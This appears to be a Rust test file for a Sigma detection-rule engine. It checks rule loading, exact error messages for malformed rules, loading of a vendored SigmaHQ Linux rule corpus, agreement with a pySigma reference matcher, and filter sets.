    let (set, errors) = RuleSet::load([
        Source::new("a.yml", text),
        Source::new("b.yml", "title: [unclosed\n"),
        Source::new("bundled:kaspersky", KASPERSKY),
    ]);
    assert_eq!(set.len(), 2);
    assert_eq!(errors.len(), 2);
    assert_eq!(set.rules()[1].meta.source, "bundled:kaspersky");
}

#[test]
fn rule_set_is_send_and_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<RuleSet>();
    assert_send_sync::<Rule>();
}

// ---------------------------------------------------------------------------
// Error messages, pinned.

#[test]
fn error_bad_condition_token_points_at_it() {
    let text =
        rule("    selection:\n        Image: /bin/sh\n    condition: selection adn filter\n");
    assert_eq!(
        load_errors(&text),
        [
            "test.yml:8:26: rule 'T': condition: expected 'and', 'or' or end of condition, found 'adn'"
        ]
    );
    let text = rule("    selection:\n        Image: /bin/sh\n    condition: 'selection & x'\n");
    assert_eq!(
        load_errors(&text),
        ["test.yml:8:27: rule 'T': condition: unexpected character '&'"]
    );
}

#[test]
fn error_unknown_identifier_suggests_the_close_one() {
    let text = rule("    selection:\n        Image: /bin/sh\n    condition: selecton\n");
    assert_eq!(
        load_errors(&text),
        [
            "test.yml:8:16: rule 'T': condition: unknown search identifier 'selecton' (did you mean 'selection'?)"
        ]
    );
}

#[test]
fn error_selector_matching_nothing() {
    let text = rule(
        "    selection:\n        Image: /bin/sh\n    condition: selection and not 1 of filter_*\n",
    );
    assert_eq!(
        load_errors(&text),
        ["test.yml:8:34: rule 'T': condition: '1 of filter_*' matches no search identifier"]
    );
}

#[test]
fn error_unknown_modifier_with_did_you_mean() {
    let text =
        rule("    selection:\n        CommandLine|contians: kesl\n    condition: selection\n");
    assert_eq!(
        load_errors(&text),
        [
            "test.yml:7:9: rule 'T': search 'selection', field 'CommandLine|contians': unknown modifier 'contians' (did you mean 'contains'?)"
        ]
    );
    let text = rule("    selection:\n        UtcTime|hour: 3\n    condition: selection\n");
    assert_eq!(
        load_errors(&text),
        [
            "test.yml:7:9: rule 'T': search 'selection', field 'UtcTime|hour': modifier 'hour' is not supported yet"
        ]
    );
}

#[test]
fn error_yaml_syntax_has_line_and_column() {
    assert_eq!(
        load_errors("title: T\ndetection:\n    sel: [a, b\n    condition: sel\n"),
        ["test.yml:4:14: yaml syntax error: illegal placement of ':' indicator"]
    );
    assert_eq!(
        load_errors(
            "title: T\ndetection:\n    sel:\n        Image: a\n    sel:\n        Image: b\n"
        ),
        ["test.yml:5:5: duplicate key 'sel'"]
    );
    assert_eq!(
        load_errors("title: T\n  bad: indent\n"),
        ["test.yml:2:6: yaml syntax error: mapping values are not allowed in this context"]
    );
}

#[test]
fn error_bad_regex_names_rule_and_field() {
    let text =
        rule("    selection:\n        CommandLine|re: '(?<!x)y'\n    condition: selection\n");
    assert_eq!(
        load_errors(&text),
        [
            "test.yml:7:25: rule 'T': search 'selection', field 'CommandLine|re': regular expression does not compile: look-around, including look-ahead and look-behind, is not supported"
        ]
    );
}

#[test]
fn error_missing_parts_name_the_rule() {
    assert_eq!(
        load_errors(
            "id: abc\nlogsource:\n    category: process_creation\ndetection:\n    sel:\n        Image: x\n    condition: sel\n"
        ),
        ["test.yml:1:1: rule 'abc': missing 'title'"]
    );
    assert_eq!(
        load_errors("title: No detection\nlogsource:\n    category: process_creation\n"),
        ["test.yml:1:1: rule 'No detection': missing 'detection'"]
    );
    assert_eq!(
        load_errors(&rule("    sel:\n        Image: x\n")),
        ["test.yml:5:1: rule 'T': missing 'condition'"]
    );
    assert_eq!(
        load_errors("title: No logsource\n"),
        ["test.yml:1:1: rule 'No logsource': missing 'logsource'"]
    );
}

#[test]
fn errors_are_collected_for_every_bad_item_of_a_rule() {
    let text = rule(
        "    a:\n        Image|endwith: x\n    b:\n        CommandLine|re: '('\n    condition: a or b\n",
    );
    let errors = load_errors(&text);
    assert_eq!(errors.len(), 2, "{errors:#?}");
    assert!(errors[0].contains("unknown modifier 'endwith' (did you mean 'endswith'?)"));
    assert!(errors[1].contains("field 'CommandLine|re': regular expression does not compile"));
}

#[test]
fn deep_condition_is_an_error_not_a_crash() {
    let cond = format!("{}sel{}", "(".repeat(10_000), ")".repeat(10_000));
    let text = rule(&format!(
        "    sel:\n        Image: x\n    condition: '{cond}'\n"
    ));
    let errors = load_errors(&text);
    assert_eq!(errors.len(), 1);
    assert!(errors[0].ends_with("condition: nests deeper than 64 levels of parentheses and 'not'"));
}

// ---------------------------------------------------------------------------
// Every SigmaHQ linux process_creation rule loads.

/// The SigmaHQ linux corpus, vendored under `sensor/tests/sigma/` (a copy
/// of the project's `shared/sigmahq-linux`, Detection Rule License, see
/// its LICENSE) so the test does not depend on what sits beside the clone.
fn sigmahq_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/sigma/sigmahq-linux")
}

fn yaml_files(dir: &Path, out: &mut Vec<PathBuf>) {
    let entries =
        std::fs::read_dir(dir).unwrap_or_else(|e| panic!("cannot read {}: {e}", dir.display()));
    for entry in entries {
        let path = entry.expect("directory entry").path();
        if path.is_dir() {
            yaml_files(&path, out);
        } else if path.extension().is_some_and(|e| e == "yml" || e == "yaml") {
            out.push(path);
        }
    }
}

/// Rules known not to load, with the reason. Empty: every rule loads. A
/// new failure (or a fixed one) makes `every_sigmahq_linux_rule_loads` fail.
const KNOWN_GAPS: &[(&str, &str)] = &[];

#[test]
fn every_sigmahq_linux_rule_loads() {
    let root = sigmahq_root();
    assert!(
        root.is_dir(),
        "SigmaHQ rules not found at {} (vendored corpus missing)",
        root.display()
    );
    let mut files = Vec::new();
    for dir in ["rules", "rules-threat-hunting", "rules-emerging-threats"] {
        yaml_files(&root.join(dir), &mut files);
    }
    files.sort();
    assert!(
        files.len() >= 140,
        "only {} rule files under {}",
        files.len(),
        root.display()
    );
    let sources = files.iter().map(|p| {
        let text = std::fs::read_to_string(p).unwrap_or_else(|e| panic!("{}: {e}", p.display()));
        let name = p.strip_prefix(&root).unwrap_or(p).display().to_string();
        Source::new(name, text)
    });
    let report = RuleSet::load_report(sources);
    let mut failed: Vec<(String, String)> = report
        .errors
        .iter()
        .map(|e| (e.source_name.clone(), e.to_string()))
        .collect();
    failed.sort();
    let known: Vec<(String, String)> = KNOWN_GAPS
        .iter()
        .map(|(f, m)| ((*f).to_owned(), (*m).to_owned()))
        .collect();
    assert_eq!(failed, known, "rules that failed to load");
    assert!(report.skipped.is_empty(), "{:?}", report.skipped);
    assert_eq!(report.rules.len() + KNOWN_GAPS.len(), files.len());
    // Every rule has the metadata an alert needs.
    for r in report.rules.rules() {
        assert!(r.meta.id.is_some(), "{} has no id", r.meta.source);
        assert!(r.meta.level.is_some(), "{} has no level", r.meta.source);
    }
}

// ---------------------------------------------------------------------------
// Differential check against the reference matcher (pySigma + SQLite).

/// An event read from the oracle corpus (flat JSON object).
struct JsonEv(serde_json::Map<String, serde_json::Value>);

impl Event for JsonEv {
    fn field(&self, name: &str) -> Option<Value<'_>> {
        Some(match self.0.get(name)? {
            serde_json::Value::String(s) => Value::Str(Cow::Borrowed(s)),
            serde_json::Value::Bool(b) => Value::Bool(*b),
            serde_json::Value::Number(n) => match n.as_i64() {
                Some(i) => Value::Int(i),
                None => Value::Str(Cow::Owned(n.to_string())),
            },
            _ => Value::Null,
        })
    }

    fn for_each_string(&self, f: &mut dyn FnMut(&str)) {
        for v in self.0.values() {
            if let serde_json::Value::String(s) = v {
                f(s);
            }
        }
    }
}

/// Rule files under `dir`, loaded as one set; any load error fails.
fn load_dir(dir: &Path) -> RuleSet {
    assert!(dir.is_dir(), "rules not found at {}", dir.display());
    let mut files = Vec::new();
    yaml_files(dir, &mut files);
    files.sort();
    let sources = files.iter().map(|p| {
        let text = std::fs::read_to_string(p).unwrap_or_else(|e| panic!("{}: {e}", p.display()));
        Source::new(p.display().to_string(), text)
    });
    let (set, errors) = RuleSet::load(sources);
    assert!(errors.is_empty(), "{errors:?}");
    set
}

/// Runs `set` over a JSON-lines corpus and returns, for every rule where we
/// and the oracle's recorded answer differ, (event index, rule id, true
/// when we match and the oracle does not). Also returns the oracle's hit
/// count so callers can check the corpus exercises the rules.
fn oracle_differences(
    set: &RuleSet,
    events: &str,
    expected: &str,
) -> (Vec<(usize, String, bool)>, usize) {
    assert_eq!(events.lines().count(), expected.lines().count());
    let mut differences = Vec::new();
    let mut total_hits = 0;
    for (i, (event, expected)) in events.lines().zip(expected.lines()).enumerate() {
        let event: serde_json::Map<String, serde_json::Value> =
            serde_json::from_str(event).expect("corpus event is a JSON object");
        let expected: serde_json::Value =
            serde_json::from_str(expected).expect("oracle line is JSON");
        assert_eq!(
            expected["event"], i,
            "oracle output out of step with events"
        );
        let want: std::collections::BTreeSet<&str> = expected["rules"]
            .as_array()
            .expect("rules array")
            .iter()
            .filter_map(|r| r.as_str())
            .collect();
        let got: std::collections::BTreeSet<&str> = hits(set, &JsonEv(event))
            .into_iter()
            .filter_map(|r| set.rules()[r].meta.id.as_deref())
            .collect();
        total_hits += want.len();
        for id in got.difference(&want) {
            differences.push((i, (*id).to_owned(), true));
        }
        for id in want.difference(&got) {
            differences.push((i, (*id).to_owned(), false));
        }
    }
    (differences, total_hits)
}

/// Known disagreements with the oracle: (event index, rule id, true when
/// we match and the oracle does not), each with its reason. None so far.
const ORACLE_DISAGREEMENTS: &[(usize, &str, bool)] = &[];

#[test]
fn matches_agree_with_the_pysigma_oracle_on_sigmahq_rules() {
    let set = load_dir(&sigmahq_root());
    let (differences, total_hits) = oracle_differences(
        &set,
        include_str!("../../tests/sigma/oracle/events.jsonl"),
        include_str!("../../tests/sigma/oracle/expected.jsonl"),
    );
    assert!(
        total_hits > 300,
        "the corpus should exercise the rules: {total_hits} expected hits"
    );
    let known: Vec<(usize, String, bool)> = ORACLE_DISAGREEMENTS
        .iter()
        .map(|(i, id, ours)| (*i, (*id).to_owned(), *ours))
        .collect();
    assert_eq!(
        differences, known,
        "(event, rule id, we match but the oracle does not)"
    );
}

#[test]
fn matches_agree_with_the_pysigma_oracle_on_edge_cases() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/sigma/oracle/edge-rules");
    let set = load_dir(&dir);
    assert_eq!(set.len(), 14);
    let (differences, total_hits) = oracle_differences(
        &set,
        include_str!("../../tests/sigma/oracle/edge-events.jsonl"),
        include_str!("../../tests/sigma/oracle/edge-expected.jsonl"),
    );
    assert_eq!(total_hits, 23);
    assert_eq!(
        differences,
        [],
        "(event, rule id, we match but the oracle does not)"
    );
}

mod differential;
mod spec;
mod speed;

#[test]
fn filter_set_compiles_filters_on_their_own_and_refuses_rules() {
    let filter = "title: Not from apt\nid: f-1\nlogsource:\n    product: linux\n    category: process_creation\nfilter:\n    rules: [r-1, 'Other rule']\n    apt:\n        AncestorImage|endswith: /apt-get\n    condition: not apt\n";
    let (set, errors) = FilterSet::load([Source::new("f.yml", filter)]);
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(set.len(), 1);
    assert_eq!(set.targets(0), ["r-1", "Other rule"]);
    assert_eq!(set.filters()[0].title.as_deref(), Some("Not from apt"));
    // The condition itself, not ANDed onto anything: it holds unless the
    // ancestor is apt-get.
    let mut holding = Vec::new();
    set.holding(
        &Ev::new(&[("AncestorImage", "/usr/bin/bash")]),
        &mut holding,
    );
    assert_eq!(holding, [0]);
    holding.clear();
    set.holding(
        &Ev::new(&[("AncestorImage", "/usr/bin/apt-get")]),
        &mut holding,
    );
    assert!(holding.is_empty());
    // A rule among exclusions is an error, with its place.
    let rule = "title: A rule\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    sel:\n        Image: /x\n    condition: sel\n";
    let (set, errors) = FilterSet::load([Source::new("r.yml", rule)]);
    assert!(set.is_empty());
    let messages: Vec<String> = errors.iter().map(|e| e.to_string()).collect();
    assert_eq!(
        messages,
        [
            "r.yml:1:1: rule 'A rule': expected a Sigma filter document (with 'filter:'), found a rule"
        ]
    );
}
